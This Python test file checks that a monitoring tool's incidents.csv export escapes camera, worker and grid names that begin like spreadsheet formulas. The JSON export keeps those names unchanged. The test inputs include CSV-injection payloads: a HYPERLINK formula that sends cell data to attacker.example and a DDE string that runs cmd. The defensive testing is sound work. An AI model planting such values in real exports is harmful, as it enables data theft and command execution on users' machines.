"""incidents.csv opened in a spreadsheet: names a site gives (cameras, workers, grids) that start
like a formula are shown as text, never run (CSV injection)."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import yaml

from tests.e2e.replay_site import CAR_ZONE, ORIGIN, aibrain_replay, write_site

CAMERA, WORKER, GRID = '=HYPERLINK("http://attacker.example/?"&A1,"open")', "+cmd|'/c calc'!A0", "@SUM(1+1)*cmd"


def test_names_that_start_like_formulas_are_text_in_the_csv(tmp_path: Path, pialin_street: Path,
                                                             yolo_onnx: Path) -> None:
    site_file = write_site(tmp_path, str(pialin_street), yolo_onnx, CAR_ZONE)
    site = yaml.safe_load(site_file.read_text(encoding="utf-8"))
    site["cameras"][0]["name"], site["workers"][0]["name"] = CAMERA, WORKER
    site_file.write_text(yaml.safe_dump(site, allow_unicode=True), encoding="utf-8")
    grids = json.loads((tmp_path / "grids.geojson").read_text(encoding="utf-8"))
    grids["features"][0]["properties"]["name"] = GRID
    (tmp_path / "grids.geojson").write_text(json.dumps(grids, ensure_ascii=False), encoding="utf-8")

    run = aibrain_replay(site_file, pialin_street, "--origin", ORIGIN, "--report", tmp_path / "report")
    assert run.returncode == 0, run.stderr[-3000:]
    with (tmp_path / "report" / "incidents.csv").open(encoding="utf-8-sig", newline="") as rows:
        [row] = list(csv.DictReader(rows))
    assert (row["camera_name"], row["worker_name"], row["grid_name"]) == (f"'{CAMERA}", f"'{WORKER}", f"'{GRID}")
    formula_start = ("=", "+", "-", "@", "\t", "\r")
    assert not [value for value in row.values() if value.startswith(formula_start)], row
    # incidents.json is data, not a sheet: the names stay as written there.
    [exported] = json.loads((tmp_path / "report" / "incidents.json").read_text(encoding="utf-8"))
    assert (exported["camera_name"], exported["worker_name"], exported["grid_name"]) == (CAMERA, WORKER, GRID)
